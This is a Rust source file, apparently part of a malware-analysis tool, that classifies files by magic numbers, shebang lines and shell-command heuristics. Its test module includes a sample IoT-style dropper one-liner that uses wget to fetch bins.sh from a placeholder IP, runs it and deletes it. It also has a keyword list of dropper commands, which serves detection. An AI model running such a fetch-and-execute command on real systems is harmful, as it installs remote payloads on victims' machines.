//! What kind of file this is, from its content alone (names lie).

use serde::Serialize;

/// The broad kind, which decides what else is analysed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    Elf,
    /// Starts with `#!`.
    Script,
    /// No shebang, but reads as shell commands (droppers often are).
    ShellScript,
    Archive,
    /// Another executable format (PE, Mach-O): named, not analysed further.
    Executable,
    Text,
    Data,
    Empty,
}

/// The detected type: kind, a one-line description in the style of `file(1)`, and
/// the details an analyst asks for next.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FileType {
    pub kind: Kind,
    pub description: String,
    /// Script interpreter as written after `#!` (path and arguments).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub interpreter: Option<String>,
    /// Script language, from the interpreter or the shell heuristics.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub language: Option<String>,
    /// Archive or compression format.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub format: Option<String>,
}

impl FileType {
    fn new(kind: Kind, description: impl Into<String>) -> Self {
        Self {
            kind,
            description: description.into(),
            interpreter: None,
            language: None,
            format: None,
        }
    }
}

/// Magic numbers of archive and compression formats, with their offsets.
const ARCHIVES: &[(usize, &[u8], &str, &str)] = &[
    (0, b"\x1f\x8b", "gzip", "gzip compressed data"),
    (0, b"BZh", "bzip2", "bzip2 compressed data"),
    (0, b"\xfd7zXZ\x00", "xz", "XZ compressed data"),
    (0, b"\x28\xb5\x2f\xfd", "zstd", "Zstandard compressed data"),
    (0, b"\x04\x22\x4d\x18", "lz4", "LZ4 compressed data"),
    (0, b"\x5d\x00\x00", "lzma", "LZMA compressed data"),
    (0, b"PK\x03\x04", "zip", "Zip archive data"),
    (0, b"PK\x05\x06", "zip", "Zip archive data (empty)"),
    (0, b"7z\xbc\xaf\x27\x1c", "7z", "7-zip archive data"),
    (0, b"Rar!\x1a\x07", "rar", "RAR archive data"),
    (
        0,
        b"!<arch>\n",
        "ar",
        "current ar archive (or Debian package)",
    ),
    (
        0,
        b"070701",
        "cpio",
        "ASCII cpio archive (SVR4 with no CRC)",
    ),
    (0, b"070702", "cpio", "ASCII cpio archive (SVR4 with CRC)"),
    (0, b"070707", "cpio", "ASCII cpio archive (pre-SVR4 or odc)"),
    (
        0,
        b"\xc7\x71",
        "cpio",
        "cpio archive (binary, little-endian)",
    ),
    (257, b"ustar", "tar", "POSIX tar archive"),
    (0, b"hsqs", "squashfs", "Squashfs filesystem, little endian"),
    (0, b"\x27\x05\x19\x56", "uimage", "u-boot legacy uImage"),
];

/// Detects the type of `data`. ELF descriptions are refined later from the parsed
/// header, which knows far more than the magic.
pub fn detect(data: &[u8]) -> FileType {
    if data.is_empty() {
        return FileType::new(Kind::Empty, "empty");
    }
    if data.starts_with(b"\x7fELF") {
        return FileType::new(Kind::Elf, "ELF");
    }
    if let Some(rest) = data.strip_prefix(b"#!") {
        return script(rest);
    }
    for &(offset, magic, format, description) in ARCHIVES {
        if data.get(offset..offset + magic.len()) == Some(magic) {
            let mut t = FileType::new(Kind::Archive, description);
            t.format = Some(format.to_owned());
            return t;
        }
    }
    if data.starts_with(b"MZ") {
        return FileType::new(Kind::Executable, "MS-DOS/PE executable");
    }
    if [
        b"\xfe\xed\xfa\xce",
        b"\xfe\xed\xfa\xcf",
        b"\xce\xfa\xed\xfe",
        b"\xcf\xfa\xed\xfe",
    ]
    .iter()
    .any(|m| data.starts_with(*m))
    {
        return FileType::new(Kind::Executable, "Mach-O executable");
    }
    if is_text(data) {
        if looks_like_shell(data) {
            let mut t = FileType::new(Kind::ShellScript, "POSIX shell script text (no shebang)");
            t.language = Some("sh".to_owned());
            return t;
        }
        return FileType::new(Kind::Text, "text");
    }
    FileType::new(Kind::Data, "data")
}

/// A `file(1)`-style line from the parsed header, e.g. "ELF 64-bit LSB pie
/// executable, x86-64, dynamically linked, interpreter /lib64/ld-linux-x86-64.so.2,
/// stripped".
pub fn describe_elf(elf: &ferret_elf::ElfInfo<'_>) -> String {
    use ferret_elf::{Class, Endianness, Linkage};
    let bits = match elf.class {
        Class::Elf32 => "32-bit",
        Class::Elf64 => "64-bit",
    };
    let order = match elf.endianness {
        Endianness::Little => "LSB",
        Endianness::Big => "MSB",
    };
    let kind = match elf.elf_type.as_ref() {
        "EXEC" => "executable",
        "DYN" if elf.pie => "pie executable",
        "DYN" => "shared object",
        "REL" => "relocatable",
        "CORE" => "core file",
        other => other,
    };
    let mut d = format!("ELF {bits} {order} {kind}, {}", elf.machine.name);
    if let Some(f) = elf.flags.float_abi.filter(|_| elf.machine.name == "ARM") {
        d.push_str(&format!(
            ", EABI{} {f}-float",
            elf.flags.arm_eabi_version.unwrap_or(0)
        ));
    }
    if let Some(abi) = elf.flags.mips_abi {
        d.push_str(&format!(", {abi}"));
    }
    d.push_str(match elf.linkage {
        Linkage::Static => ", statically linked",
        Linkage::Dynamic => ", dynamically linked",
        Linkage::StaticPie => ", static-pie linked",
    });
    if let Some(i) = &elf.interpreter {
        d.push_str(&format!(", interpreter {i}"));
    }
    if !elf.section_headers_present {
        d.push_str(", no section header");
    }
    d.push_str(if elf.stripped {
        ", stripped"
    } else {
        ", not stripped"
    });
    d
}

fn script(rest: &[u8]) -> FileType {
    let line = rest.split(|&b| b == b'\n').next().unwrap_or_default();
    let line = String::from_utf8_lossy(line).trim().to_owned();
    let mut words = line.split_whitespace();
    let prog = words.next().unwrap_or("");
    let mut name = prog.rsplit('/').next().unwrap_or(prog);
    // `#!/usr/bin/env python3 -u` names the real interpreter second.
    if name == "env" {
        name = words.find(|w| !w.starts_with('-')).unwrap_or("");
    }
    let language = language_of(name);
    let description = match language {
        Some(l) => format!("{l} script text executable"),
        None if line.is_empty() => "script text with an empty #! line".to_owned(),
        None => format!("script text executable for {name}"),
    };
    let mut t = FileType::new(Kind::Script, description);
    t.interpreter = (!line.is_empty()).then_some(line);
    t.language = language.map(str::to_owned);
    t
}

fn language_of(interp: &str) -> Option<&'static str> {
    let base = interp.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match base {
        "sh" | "dash" | "ash" | "busybox" => "sh",
        "bash" => "bash",
        "zsh" => "zsh",
        "ksh" | "mksh" => "ksh",
        "csh" | "tcsh" => "csh",
        "python" | "pypy" => "python",
        "perl" => "perl",
        "ruby" => "ruby",
        "php" | "php-cgi" => "php",
        "node" | "nodejs" => "javascript",
        "lua" | "luajit" => "lua",
        "awk" | "gawk" | "mawk" => "awk",
        "tclsh" | "wish" => "tcl",
        "expect" => "expect",
        _ => return None,
    })
}

/// Text: valid UTF-8 (or Latin-1-free ASCII) with no NULs and few control bytes.
fn is_text(data: &[u8]) -> bool {
    let sample = &data[..data.len().min(64 * 1024)];
    if sample.contains(&0) {
        return false;
    }
    // A multi-byte character may be cut at the sample's end.
    let valid = match std::str::from_utf8(sample) {
        Ok(_) => true,
        Err(e) => e.error_len().is_none() && sample.len() < data.len(),
    };
    if !valid {
        return false;
    }
    let control = sample
        .iter()
        .filter(|&&b| b < 0x20 && !matches!(b, b'\n' | b'\r' | b'\t' | 0x0c | 0x1b))
        .count();
    control * 100 <= sample.len()
}

/// Commands that start lines of droppers and install scripts.
const SHELL_STARTS: &[&str] = &[
    "cd ",
    "wget ",
    "curl ",
    "tftp ",
    "ftpget ",
    "chmod ",
    "chown ",
    "rm ",
    "mv ",
    "cp ",
    "mkdir ",
    "echo ",
    "printf ",
    "export ",
    "unset ",
    "if ",
    "then",
    "fi",
    "for ",
    "while ",
    "do",
    "done",
    "case ",
    "esac",
    "busybox ",
    "/bin/busybox",
    "nohup ",
    "kill ",
    "pkill ",
    "killall ",
    "crontab ",
    "exec ",
    "sleep ",
    "cat ",
    "ulimit ",
    "iptables ",
    "service ",
    "systemctl ",
    "history ",
    "sh ",
    "bash ",
    "./",
    ">",
    "set ",
    "local ",
    "return",
    "exit",
    "trap ",
    "source ",
    ". /",
];

/// Shell without a shebang: most non-comment lines start like shell commands, or
/// chain them with `;`, `&&` or `|`.
fn looks_like_shell(data: &[u8]) -> bool {
    let text = String::from_utf8_lossy(&data[..data.len().min(64 * 1024)]);
    let mut lines = 0usize;
    let mut shellish = 0usize;
    for line in text
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
    {
        lines += 1;
        let starts = SHELL_STARTS.iter().any(|s| line.starts_with(s));
        let chained = line.contains("; ") || line.contains(" && ") || line.contains(" | ");
        let assignment = line.split_once('=').is_some_and(|(k, _)| {
            !k.is_empty() && k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        });
        if starts || (chained && line.split_whitespace().count() >= 3) || assignment {
            shellish += 1;
        }
    }
    lines > 0 && shellish * 10 >= lines * 7 && (shellish >= 2 || text.contains("; "))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kinds() {
        assert_eq!(detect(b"").kind, Kind::Empty);
        assert_eq!(detect(b"\x7fELF\x02\x01").kind, Kind::Elf);
        assert_eq!(detect(b"\x1f\x8b\x08\x00").format.as_deref(), Some("gzip"));
        let mut tar = vec![0u8; 512];
        tar[257..262].copy_from_slice(b"ustar");
        assert_eq!(detect(&tar).format.as_deref(), Some("tar"));
        assert_eq!(detect(b"MZ\x90\x00").kind, Kind::Executable);
        assert_eq!(detect(b"hello world\nthis is prose.\n").kind, Kind::Text);
        assert_eq!(detect(&[0u8, 1, 2, 3, 200, 201]).kind, Kind::Data);
    }

    #[test]
    fn shebangs() {
        let t = detect(b"#!/bin/sh\necho hi\n");
        assert_eq!((t.kind, t.language.as_deref()), (Kind::Script, Some("sh")));
        assert_eq!(t.interpreter.as_deref(), Some("/bin/sh"));
        let t = detect(b"#!/usr/bin/env -S python3 -u\nprint(1)\n");
        assert_eq!(t.language.as_deref(), Some("python"));
        assert_eq!(
            detect(b"#!/usr/bin/perl -w\n").language.as_deref(),
            Some("perl")
        );
        let t = detect(b"#!/opt/weird\n");
        assert_eq!((t.kind, t.language), (Kind::Script, None));
        assert!(t.description.contains("weird"));
    }

    #[test]
    fn shell_without_shebang() {
        let dropper = b"cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh\nrm -rf bins.sh\n";
        assert_eq!(detect(dropper).kind, Kind::ShellScript);
        let prose = b"The quick brown fox.\nJumps over the lazy dog; twice.\nThen sleeps.\n";
        assert_eq!(detect(prose).kind, Kind::Text);
        let config = b"[section]\nkey = value\nother = 3\n";
        assert_eq!(detect(config).kind, Kind::Text);
    }
}
